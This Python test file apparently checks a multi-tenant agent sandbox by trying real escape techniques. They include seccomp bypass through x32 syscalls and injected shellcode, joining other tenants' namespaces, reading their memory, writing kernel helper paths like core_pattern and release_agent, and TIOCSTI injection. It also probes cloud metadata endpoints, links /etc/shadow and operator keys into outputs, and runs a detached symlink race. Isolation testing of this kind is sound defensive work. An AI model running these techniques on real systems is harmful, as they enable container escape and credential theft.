"""Attacks by less usual interfaces of the kernel, and by the files of a task that the agent handles."""

import contextlib
import ctypes
import fcntl
import os
import resource
import signal
import socket
import stat
import struct
import time
from collections.abc import Callable
from pathlib import Path

from tests.isolation.attack_results import Blocked, Targets, check, some, succeeding

_NEW_USER, _NEW_MOUNTS = 0x10000000, 0x00020000
_HERE = -100
_X32 = 0x40000000
_METADATA = ("169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254")
_FAST_OPEN, _MPTCP = 0x20000000, 262
_libc = ctypes.CDLL(None, use_errno=True)


def calls_by_other_numbers(targets: Targets) -> str:
    """Makes a user namespace by the calls of 32-bit programs, which a filter for 64-bit calls does not see."""
    x32 = (_X32 + number for number in (272, 435))
    calls: dict[str, Callable[[], object]] = {
        f"x32 {number}": lambda number=number: check(_libc.syscall(number, _NEW_USER, 0)) for number in x32
    }
    # mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; ret. The return value is that of the call.
    code = b"\x53\xb8" + struct.pack("<I", 310) + b"\xbb" + struct.pack("<I", _NEW_USER) + b"\xcd\x80\x5b\xc3"
    calls["int 0x80"] = lambda: check(_run_code(code))
    return some(succeeding(calls), "each fails")


def _run_code(code: bytes) -> int:
    _libc.mmap.restype = ctypes.c_void_p
    place = _libc.mmap(None, 4096, 7, 0x22, -1, 0)
    ctypes.memmove(place, code, len(code))
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(place)())


def namespaces_of_others(targets: Targets) -> str:
    """Joins namespaces of its shim, of another tenant's task and of the first process, by files and by pidfd."""
    calls: dict[str, Callable[[], object]] = {}
    for pid in {1, shim(), targets["victim"]}:
        for kind in ("mnt", "net", "pid", "user", "cgroup"):
            path = f"/proc/{pid}/ns/{kind}"
            calls[path] = lambda path=path: check(_libc.setns(os.open(path, os.O_RDONLY), 0))
        calls[f"pidfd {pid}"] = lambda pid=pid: check(_libc.setns(os.pidfd_open(pid), _NEW_MOUNTS))
    return some(succeeding(calls), "each fails")


def shim() -> int:
    """Returns the parent of the shell that has started this process."""
    status = Path(f"/proc/{os.getppid()}/status").read_text()
    return int(status.partition("PPid:")[2].split()[0])


def memory_and_files_of_others(targets: Targets) -> str:
    """Reads memory and takes descriptors of another tenant's task and of its own shim."""
    calls: dict[str, Callable[[], object]] = {}
    for one, pid in (("the first process", 1), ("the shim", shim()), ("the victim", targets["victim"])):
        place = struct.pack("<QQ", ctypes.addressof(ctypes.create_string_buffer(8)), 8)
        calls[f"memory of {one}"] = lambda pid=pid, place=place: check(_libc.syscall(310, pid, place, 1, place, 1, 0))
        calls[f"file of {one}"] = lambda pid=pid: check(_libc.syscall(438, os.pidfd_open(pid), 0, 0))
        calls[f"descriptors of {one}"] = lambda pid=pid: list(Path(f"/proc/{pid}/fd").iterdir())
    calls["limits"] = lambda: resource.prlimit(targets["victim"], resource.RLIMIT_NOFILE, (8, 8))
    return some(succeeding(calls), "each fails")


def newer_mount_calls(targets: Targets) -> str:
    """Mounts by the newer calls (fsopen, open_tree, mount_setattr), pivots its root, and unmounts what is read-only."""
    calls: dict[str, Callable[[], object]] = {
        "fsopen": lambda: check(_libc.syscall(430, b"tmpfs", 0)),
        "open_tree": lambda: check(_libc.syscall(428, _HERE, b"/", 1 | 0x8000)),
        "mount_setattr": lambda: check(_libc.syscall(442, _HERE, b"/", 0, struct.pack("<QQQQ", 0, 1, 0, 0), 32)),
        "remount": lambda: check(_libc.mount(b"none", b"/", None, 32, None)),
        "bind": lambda: check(_libc.mount(b"/", b"/tmp", None, 4096, None)),
        "umount": lambda: check(_libc.umount2(b"/usr", 2)),
        "pivot_root": lambda: check(_libc.syscall(155, b".", b".")),
    }
    return some(succeeding(calls), "each fails")


def files_by_handle(targets: Targets) -> str:
    """Opens a file by its number in the file system, whatever folders are visible."""
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0), 128)
    folder = os.open(".", os.O_RDONLY)
    return some(succeeding({"root": lambda: check(_libc.syscall(304, folder, handle, os.O_RDONLY))}), "fails")


def terminals(targets: Targets) -> str:
    """Puts input into terminals (TIOCSTI): its own, those of the machine, and the console."""
    found = []
    for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/tty1", *map(str, Path("/dev/pts").glob("[0-9]*"))):
        with contextlib.suppress(OSError):
            terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
            fcntl.ioctl(terminal, 0x5412, b"x")
            found.append(path)
    return some(found, "none")


def helpers_of_the_kernel(targets: Targets) -> str:
    """Changes programs that the kernel starts as root: for cores, modules, devices, binary formats and cgroups."""
    names = [
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/poweroff_cmd",
        "/proc/sys/fs/binfmt_misc/register", "/sys/kernel/uevent_helper",
        *map(str, Path("/sys/fs/cgroup").glob("*/release_agent")),
    ]  # fmt: skip
    found = []
    for name in names:
        with contextlib.suppress(OSError), open(name, "r+b"):
            found.append(name)
    return some(found, "none can be opened")


def cgroups_of_its_own(targets: Targets) -> str:
    """Makes cgroups, and mounts the hierarchies of version 1 with a release agent."""
    calls: dict[str, Callable[[], object]] = {
        str(root): lambda root=root: (root / "intruder").mkdir()
        for root in (Path("/sys/fs/cgroup"), *Path("/sys/fs/cgroup").glob("*"))
        if root.is_dir()
    }
    calls["mount"] = lambda: check(_libc.mount(b"cgroup", b"/tmp", b"cgroup", 0, b"rdma"))
    return some(succeeding(calls), "each fails")


def administration(targets: Targets) -> str:
    """Loads modules and kernels, switches swap, accounting, quotas and ports of the machine, and sets its clock."""
    calls: dict[str, Callable[[], object]] = {
        "finit_module": lambda: check(_libc.syscall(313, os.open("/etc/hostname", os.O_RDONLY), b"", 0)),
        "kexec_load": lambda: check(_libc.syscall(246, 0, 0, 0, 0)),
        "swapon": lambda: check(_libc.swapon(b"/tmp/none", 0)),
        "acct": lambda: check(_libc.acct(None)),
        "iopl": lambda: check(_libc.syscall(172, 3)),
        "ioperm": lambda: check(_libc.syscall(173, 0x80, 1, 1)),
        "settimeofday": lambda: check(_libc.settimeofday(struct.pack("<qq", int(time.time()), 0), None)),
        "fanotify": lambda: check(_libc.syscall(300, 0x04, 0)),
        "more processes": lambda: (
            resource.setrlimit(resource.RLIMIT_NPROC, (1 << 30, 1 << 30))
            if resource.getrlimit(resource.RLIMIT_NPROC)[1] not in (-1, 1 << 30)
            else check(-1)
        ),
        "io priority": lambda: check(_libc.syscall(251, 1, 0, 1 << 13)),
    }
    return some(succeeding(calls), f"{len(calls)} calls fail")


def memory_of_the_kernel(targets: Targets) -> str:
    """Reads the kernel's memory, symbols, traces and settings that may hold secrets."""
    paths = [
        *map(Path, ("/proc/kcore", "/dev/port", "/dev/kmsg", "/proc/kmsg", "/proc/keys", "/sys/fs/bpf/.")),
        *Path("/sys/kernel/debug").glob("*"), *Path("/sys/kernel/tracing").glob("trace*"),
    ]  # fmt: skip
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            if any(path.iterdir()) if path.is_dir() else path.open("rb").read(1):
                found.append(str(path))
    with contextlib.suppress(OSError):
        if any(int(line.split()[0], 16) for line in Path("/proc/kallsyms").read_text().splitlines()[:100]):
            found.append("addresses of symbols")
    return some(found, "nothing can be read")


def drivers(targets: Targets) -> str:
    """Opens devices with which users make networks, file systems, machines and input."""
    found = []
    for name in (
        "net/tun",
        "fuse",
        "kvm",
        "vhost-net",
        "vsock",
        "loop-control",
        "uinput",
        "userfaultfd",
        "mapper/control",
    ):
        with contextlib.suppress(OSError):
            os.close(os.open(f"/dev/{name}", os.O_RDWR))
            found.append(name)
    return some(found, "none can be opened")


def network_settings(targets: Targets) -> str:
    """Adds an interface, binds a port below 1024, and changes settings of the machine's network."""

    def add_interface() -> None:
        attribute = struct.pack("=HH", 10, 3) + b"x0\0\0"
        body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH", 8, 3) + b"x0\0\0" + attribute
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
            netlink.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
            code = struct.unpack_from("=i", netlink.recv(4096), 16)[0]
            check(0 if code in (0, -17) else -1)

    calls: dict[str, Callable[[], object]] = {
        "interface": add_interface,
        "sysctl": lambda: Path("/proc/sys/net/ipv4/ip_forward").open("r+b").close(),
        "netfilter": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255).close(),
        "interface of the socket": lambda: socket.socket().setsockopt(socket.SOL_SOCKET, 36, 0x6D000000),
    }
    return some(succeeding(calls), "each fails")


def message_queues(targets: Targets) -> str:
    """Reads another tenant's POSIX message queue and System V semaphores, both of which every user may read."""
    found = []
    with contextlib.suppress(OSError):
        found.append(check(_libc_rt().mq_open(f"/{targets['shm']}".encode(), os.O_RDONLY)))
    with contextlib.suppress(OSError):
        found.append(f"semaphores {check(_libc.semget(targets['sysv'], 1, 0))}")
    return some(found, "neither exists")


def _libc_rt() -> ctypes.CDLL:
    with contextlib.suppress(OSError):
        return ctypes.CDLL("librt.so.1", use_errno=True)
    return _libc


def metadata_service(targets: Targets) -> str:
    """Connects to the metadata services of clouds by TCP, with data in the first packet, by MPTCP and by UDP."""
    found, errors = [], set()
    for host in _METADATA:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        for kind in ("tcp", "fast open", "mptcp", "udp"):
            try:
                with socket.socket(
                    family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM, _MPTCP if kind == "mptcp" else 0
                ) as client:
                    client.settimeout(1.0)
                    if kind == "fast open":
                        client.sendto(b"GET /", _FAST_OPEN, (host, 80))
                    elif kind == "udp":
                        client.sendto(b"x", (host, 80))
                    else:
                        client.connect((host, 80))
                found.append(f"{host} {kind}")
            except PermissionError as error:
                errors.add(str(error))
            except OSError as error:
                if kind != "mptcp" or error.errno not in (93, 92):
                    found.append(f"{host} {kind}: {error}")
    return some(found, "; ".join(errors))


def hard_links(targets: Targets) -> str:
    """Links files of the agent and of the system into its working directory, where they would be kept and stored."""
    found = []
    own = Path.cwd().parent
    for path in (*own.glob("*"), *own.parent.glob("*.json"), Path("/etc/shadow"), Path("/etc/passwd")):
        if path.is_file():
            with contextlib.suppress(OSError):
                os.link(path, f"hard-{path.name}")
                found.append(str(path))
    return some(found, "none")


def files_that_the_agent_writes(targets: Targets) -> str:
    """Replaces its records, output and the files of notices by links, pipes and folders of its own."""
    found = []
    own = Path.cwd().parent
    for path in (*own.glob("*"), own / "stop.json", own / "session", own / "deadline.json.tmp"):
        if path not in (Path.cwd(), Path(os.environ["MIZZEN_REPORT"]).parent):
            with contextlib.suppress(OSError):
                if not path.is_dir():
                    path.unlink(missing_ok=True)
                    os.mkfifo(path)
                    found.append(path.name)
            with contextlib.suppress(OSError):
                path.rename(path.with_name("moved"))
                found.append(f"{path.name} was moved")
    return some(found, "none can be replaced")


def report_that_blocks(targets: Targets) -> str:
    """Makes its report a pipe, a socket, a folder, a huge sparse file and deeply nested JSON; the agent reads each."""
    report = Path(os.environ["MIZZEN_REPORT"])

    def sparse() -> None:
        with report.open("wb") as file:
            file.truncate(1 << 42)

    makers: tuple[Callable[[], object], ...] = (
        lambda: os.mkfifo(report),
        lambda: socket.socket(socket.AF_UNIX).bind(os.path.relpath(report)),
        report.mkdir,
        sparse,
        lambda: report.write_text("[" * 60_000),
        lambda: report.write_text('{"notice": {"platform": "a\\nLD_PRELOAD=/x", "kind": "x", "at_s": 1e999}}'),
    )
    for make in makers:
        if report.is_dir():
            report.rmdir()
        report.unlink(missing_ok=True)
        make()
        time.sleep(0.7)
    if report.is_dir():
        report.rmdir()
    report.unlink(missing_ok=True)
    raise Blocked("the agent's other tests look at what it does then")


def output_of_its_own(targets: Targets) -> str:
    """Makes its output a set-user-id program, truncates it, and reads the output of others through its descriptor."""
    found = []
    with contextlib.suppress(OSError):
        os.fchmod(1, 0o4777)
        os.fchmod(1, 0o600)
    for name in ("/proc/self/fd/1", "/dev/stdout"):
        with contextlib.suppress(OSError):
            target = str(Path(name).readlink())
            if not target.startswith(str(Path.cwd().parent)) and "/output" in target:
                found.append(target)
            with open(f"{Path(target).parent}/../launch.json", "rb") as file:
                found.append(f"launch description: {len(file.read())} bytes")
    return some(found, "nothing else")


def links_in_its_outputs(targets: Targets) -> str:
    """Leaves links to secrets, hard and soft, and special files in the output `stolen`, and exchanges folders."""
    stolen = Path("stolen")
    (stolen / "folder").mkdir(parents=True)
    for number, target in enumerate((f"{targets['data_dir']}/operator.key", "/etc/shadow", targets["report"], "/")):
        (stolen / f"link{number}").symlink_to(target)
    os.mkfifo(stolen / "pipe")
    with contextlib.suppress(OSError):
        os.mknod(stolen / "disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    # Goes on after the end of the task's command, until the shim kills it.
    if fork_with_session() == 0:
        while True:
            with contextlib.suppress(OSError):
                (stolen / "folder").rename("aside")
                (stolen / "folder").symlink_to(targets["data_dir"])
            with contextlib.suppress(OSError):
                (stolen / "folder").unlink()
                Path("aside").rename(stolen / "folder")
    raise Blocked("the test looks at what was stored")


def fork_with_session() -> int:
    """Forks a process with a session of its own; returns 0 in it."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for descriptor in (0, 1, 2):
            os.dup2(os.open("/dev/null", os.O_RDWR), descriptor)
    return pid


ATTACKS: tuple[Callable[[Targets], str], ...] = (
    calls_by_other_numbers, namespaces_of_others, memory_and_files_of_others, newer_mount_calls, files_by_handle,
    terminals, helpers_of_the_kernel, cgroups_of_its_own, administration, memory_of_the_kernel, drivers,
    network_settings, message_queues, metadata_service, hard_links, files_that_the_agent_writes, report_that_blocks,
    output_of_its_own, links_in_its_outputs,
)  # fmt: skip
